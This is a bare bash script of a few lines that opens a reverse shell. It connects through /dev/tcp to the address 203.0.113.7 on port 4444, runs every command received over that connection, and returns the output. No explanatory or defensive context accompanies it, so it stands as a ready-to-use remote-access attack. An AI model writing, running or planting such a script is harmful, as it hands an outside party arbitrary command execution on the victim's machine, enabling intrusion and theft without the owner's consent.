#!/bin/bash
H=203.0.113.7
P=4444
exec 5<>/dev/tcp/$H/$P
cat <&5 | while read line; do $line 2>&5 >&5; done
